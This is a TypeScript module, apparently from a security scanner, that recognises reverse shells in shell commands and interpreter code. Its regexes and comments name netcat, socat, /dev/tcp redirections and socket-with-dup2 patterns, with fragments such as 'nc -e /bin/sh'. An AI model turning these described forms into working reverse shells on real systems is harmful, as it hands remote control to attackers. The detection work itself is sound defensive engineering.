/**
 * Shells that are handed to whoever is at the other end of a connection. The forms are those that GTFOBins and the
 * manuals of netcat, ncat (7.9) and socat (1.8) describe: a redirection to `/dev/tcp`, a network tool that starts a shell,
 * one joined to a shell by pipes, and a socket with a shell on it in the code of an interpreter.
 */

import {
  type InlineCodeStep,
  isPipe,
  place,
  type ShellCommand,
  type ShellStep,
  type Span,
  type Step,
  type Text,
} from '../../model.ts'
import { decoded } from '../downloads/encoded-text.ts'
import { downloadAndRun } from '../downloads/index.ts'
import { LONGEST_TEXT } from '../downloads/substitutions.ts'
import { reachOfDevice } from '../hosts/index.ts'
import { commandWords } from './command-words.ts'
import { isShell, programName } from './program-names.ts'

export interface ReverseShell {
  readonly at: Text | Span
  /** Nothing shows that a shell is at this end. `kept`: the shell opens the connection both ways and keeps it. */
  readonly withoutShell?: 'used-once' | 'kept'
}

const NETCAT = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)$/
/** `-e`, `-lvpe`, `-e/bin/sh`, `--exec`, `--sh-exec`: the next word, or what follows `=`, is started on the connection. */
const STARTS = /^(?:-[a-z]{0,8}[ec]|-[ec]([/\\].{1,256})|--(?:sh-)?exec(?:=(.{1,256}))?)$/
/** Programs whose output is what the other end of a connection says. */
const CONNECTS = /^(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|telnet|socat)$/

/** Where a step of a launch ties a shell to a connection; undefined when it does not. */
export function reverseShell(step: Step): ReverseShell | undefined {
  if (step.kind === 'program') return on(onConnection(step.name, step.args))
  if (step.kind === 'inline-code') return inCode(step)
  return step.kind === 'shell' ? inShell(step) : undefined
}

function on(at: Text | Span | undefined): ReverseShell | undefined {
  return at && { at }
}

function inShell({ commands, script, at }: ShellStep): ReverseShell | undefined {
  const found = inCommands(commands)
  if (found || !script) return on(found)
  const device = onDevice(script, commands) ?? onQuotedDevice(commands)
  if (device) return device
  if (isShellOnSocket(script.value)) return on(script)
  const hidden = decoded(script.value)
  return hidden !== undefined && isInText(hidden) ? on(at) : undefined
}

function inCode({ code, at }: InlineCodeStep): ReverseShell | undefined {
  if (!code) return undefined
  const hidden = decoded(code.value)
  return isInText(code.value) || (hidden !== undefined && isInText(hidden)) ? on(at) : undefined
}

/** What base64 hid, and what code hands to a shell, is text without words. */
function isInText(text: string): boolean {
  const start = text.slice(0, LONGEST_TEXT)
  return (DEVICE.test(start) && INTERACTIVE.test(start)) || isShellOnSocket(start) || NETCAT_TEXT.test(start)
}

const NETCAT_TEXT =
  /(?:^|[\s;&|"'`])(?:nc|ncat|netcat)\s(?:[^;&|\n]{0,256}\s)?-[a-z]{0,8}[ec]\s{1,4}["']?(?:\/[\w/]{1,32}\/)?(?:[bd]?a|z|m?k|ya|fi|t?c)?sh\b/

function inCommands(commands: readonly ShellCommand[]): Text | undefined {
  let before = ''
  for (const { words, after } of commands) {
    const [first, ...rest] = commandWords(words)
    if (!first) continue
    const name = programName(first.value)
    const [applet] = rest
    const program = name === 'busybox' && applet ? programName(applet.value) : name
    const started = onConnection(program, rest)
    if (started) return started
    const piped = isPipe(after)
    // `nc host 4444 | sh`, `sh -i | nc host 4444`: a shell with nothing to run but what comes in.
    const bare = isShell(program) && rest.every(({ value }) => /^-[ils]{1,3}$/.test(value))
    const connects = CONNECTS.test(program) || (program === 'openssl' && rest[0]?.value === 's_client')
    if (piped && ((bare && before === 'connects') || (connects && before === 'shell'))) return first
    before = connects ? 'connects' : bare ? 'shell' : ''
  }
  return undefined
}

/** `nc -e /bin/sh`, `socat TCP:host:1 EXEC:bash`: the word that says which shell. */
function onConnection(program: string, args: readonly Text[]): Text | undefined {
  if (program === 'socat') {
    const network = args.some(({ value }) => /^(?:tcp|udp|openssl|ssl|sctp|proxy|socks)[\w-]{0,16}:/i.test(value))
    const shell = args.find(({ value }) => {
      const started = /^(?:exec|system|shell):["']?([^\s,"']{1,256})/i.exec(value)?.[1]
      return started !== undefined && isShell(programName(started))
    })
    return network ? shell : undefined
  }
  if (!NETCAT.test(program)) return undefined
  for (const [index, word] of args.entries()) {
    const starts = STARTS.exec(word.value)
    const joined = starts?.[1] ?? starts?.[2]
    const named = starts && (joined ? word : args[index + 1])
    const shell = joined ?? named?.value
    if (named && shell && isShell(programName(shell.trim().split(/\s/, 1)[0] ?? ''))) return named
  }
  return undefined
}

/** The files by which bash and ksh open connections, behind a redirection. */
const DEVICE = /[<>]&?\s{0,4}(\/dev\/(?:tcp|udp)\/[^\s/;|&<>"'()]{1,255}\/)/
/** A shell that reads from, or is told by, what was connected. */
const INTERACTIVE =
  /(?:^|[\s;&|(/"'])(?:[bd]?a|z|m?k|ya|fi|t?c)?sh\s{1,4}-i\b|\b(?:[bd]?a|z|m?k|ya|fi|t?c)?sh\s{0,4}(?:<&|0<&|\/dev\/fd\/\d)|\bexec\s{1,4}0?<&\s{0,4}\d{1,3}[^\n]{0,256}[\s;&|/](?:[bd]?a|z|m?k|ya|fi|t?c)?sh(?![\w.-])|\beval\b[^\n]{0,128}<&\s{0,4}\d|\bsource\s{1,4}\/dev\/fd\/\d|\bwhile\s{1,4}read\b[^\n]{0,512}(?:\$\w|\beval\b|`)/

/** `exec 5<>/dev/tcp/host/port`, not in a subshell, which would close it again. */
const KEPT = /(?:^|[;&|\n]|\b(?:then|do)\s)\s{0,8}exec\s{1,4}(?:\d{1,3}|\{\w{1,32}\})<>\s{0,4}\/dev\/(?:tcp|udp)\//
/** Waiting for a port, or closing what was opened: somebody asks whether anything listens. */
const ASKS = /\b(?:until|timeout|sleep)\b|[<>]&-/

function withoutShell(text: string): NonNullable<ReverseShell['withoutShell']> {
  return KEPT.test(text) && !ASKS.test(text) ? 'kept' : 'used-once'
}

/** Without a shell at its end, a connection to this machine or its network asks whether something listens. */
function onDevice(script: Text, commands: readonly ShellCommand[]): ReverseShell | undefined {
  const text = script.value.slice(0, LONGEST_TEXT)
  const device = text.includes('/dev/') ? DEVICE.exec(text) : null
  if (!device) return undefined
  const [whole, file = ''] = device
  const to = device.index + whole.length
  const at = place(script, to - file.length, to)
  if (INTERACTIVE.test(text) || startsInteractive(commands)) return { at }
  return reachOfDevice(file) === 'public' ? { at, withoutShell: withoutShell(text) } : undefined
}

/** `"$SHELL" -li`, however it is written. */
function startsInteractive(commands: readonly ShellCommand[]): boolean {
  return commands.some(({ words }) => {
    const [first, ...rest] = commandWords(words)
    return (
      first !== undefined && isShell(programName(first.value)) && rest.some(({ value }) => /^-\w{0,4}i/.test(value))
    )
  })
}

/** The same with marks in the name of the file, or in that of the shell. */
function onQuotedDevice(commands: readonly ShellCommand[]): ReverseShell | undefined {
  const at = commands.flatMap(({ files = [] }) => files).find(({ value }) => reachOfDevice(value) !== undefined)
  if (!at) return undefined
  if (startsInteractive(commands)) return { at }
  return reachOfDevice(at.value) === 'public' ? { at, withoutShell: 'used-once' } : undefined
}

/**
 * What connects, and what ties a shell to it, all in one text: Python, Perl, Ruby, PHP, Node, PowerShell, Lua, awk. A socket
 * and a program alone are as often a server that waits for its database.
 */
const ON_SOCKET: readonly (readonly RegExp[])[] = [
  [/\bsocket\b/, /\bdup2\b|\bpty\.spawn\b|["'](?:\/[\w/]{1,16}\/)?(?:ba|z|da)?sh["']\s{0,4},\s{0,4}["']-i["']/],
  [/\bztcp\b/, /<&\s{0,4}\$\{?REPLY\b/],
  [/\bSocket\b/, /\bSTDIN\b[^\n]{0,32}>&/],
  [/\bTCPSocket\b/, /\bpopen\b|\breopen\b|\bexec\b[^\n]{0,64}<&/],
  [/\bfsockopen\b/, /\b(?:exec|shell_exec|proc_open|passthru|popen|system)\s{0,4}\([^\n]{0,64}\bsh\b/],
  [
    /\bnet\b[^\n]{0,512}\b(?:connect|Socket|createConnection)\b/,
    /\bspawn\b[^\n]{0,64}["'`](?:\/[\w/]{1,16}\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'`]/,
    /\.pipe\s{0,4}\(/,
  ],
  [
    /Net\.Sockets\.TCPClient/i,
    /GetStream/i,
    /\biex\b|invoke-expression|Diagnostics\.Process|cmd\.exe|powershell\.exe/i,
  ],
  [/\brequire\b[^\n]{0,8}["']socket["']/, /\breceive\b/, /\bio\.popen\b|\bos\.execute\b/],
  [/\/inet\/(?:tcp|udp)\/\d{1,5}\//, /\|&\s{0,4}getline/],
]

function isShellOnSocket(code: string): boolean {
  const text = code.slice(0, LONGEST_TEXT)
  return ON_SOCKET.some((signs) => signs.every((sign) => sign.test(text)))
}

/** Whether a step runs what it downloads, or hands a shell to another machine: all else about its words is less grave. */
export function handsOver(step: Step): boolean {
  return downloadAndRun(step) !== undefined || Boolean(reverseShell(step))
}
